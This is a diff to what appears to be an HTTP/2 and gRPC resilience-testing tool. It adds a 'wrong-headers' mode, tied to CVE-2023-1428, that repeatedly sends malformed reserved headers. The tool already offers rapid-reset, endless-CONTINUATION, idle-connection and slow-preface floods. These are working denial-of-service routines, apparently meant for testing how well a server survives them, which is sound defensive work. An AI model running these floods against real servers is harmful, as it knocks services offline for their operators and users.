@@ -6,6 +6,8 @@ it has one; then a line of JSON that says how far it came.
 KIND: rapid-reset      opens HTTP/2 streams and resets each at once, as fast as it can
       endless-header   one header that never ends, in CONTINUATION frames
       large-header     the same, in frames of the largest size
+      wrong-headers    requests whose headers are more than gRPC takes, each with another one that has
+                       a value that HTTP/2 or gRPC does not know (RFC 9113, 8.2.2)
       idle             500 connections through the handshake that then say nothing
       silent           500 connections that never begin the handshake
       slow             40 connections that send HTTP/2's preface a byte every 100 ms
@@ -101,6 +103,29 @@ def endless_header(peer, until, size=4096):
         peer.done += 1
 
 
+def wrong_headers(peer, until):
+    """Errors are made of what was wrong (CVE-2023-1428): the receiver must outlive that."""
+    wrong = ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b":method", b"x"),
+             (b":status", b"x"), (b"content-type", b"x"), (b"grpc-timeout", b"x"), (b"grpc-status", b"x"),
+             (b"grpc-previous-rpc-attempts", b"x"), (b"grpc-retry-pushback-ms", b"x"),
+             (b"grpc-encoding", b"x"), (b"grpc-accept-encoding", b"x"), (b"grpc-tags-bin", b"x"),
+             (b"grpc-trace-bin", b"x"), (b"endpoint-load-metrics-bin", b"x"))
+    while time.monotonic() < until:
+        for name, value in wrong:
+            tls = peer.greet()
+            tls.settimeout(0.1)
+            block = REQUEST + b"\x00" + text(name) + text(value)
+            for i in range(100):
+                block += b"\x00" + text(b"x%d" % i) + text(b"y" * 120)
+            peer.send(tls, frame(HEADERS, 4, 1, block))
+            try:
+                while tls.recv(4096):
+                    pass
+            except OSError:
+                peer.cut += 1
+            peer.done += 1
+
+
 def slow(peer, until):
     crowd = []
     while True:
@@ -144,7 +169,7 @@ def main():
     peer = Peer(port, source, sys.argv[5:7])
     until = time.monotonic() + seconds
     attack = {"rapid-reset": rapid_reset, "endless-header": endless_header, "slow": slow,
-              "large-header": lambda p, u: endless_header(p, u, 16384),
+              "large-header": lambda p, u: endless_header(p, u, 16384), "wrong-headers": wrong_headers,
               "idle": lambda p, u: hold(p.greet, p, u),
               "silent": lambda p, u: hold(p.connect, p, u)}[kind]
     while time.monotonic() < until and peer.sent <= MOST_BYTES:
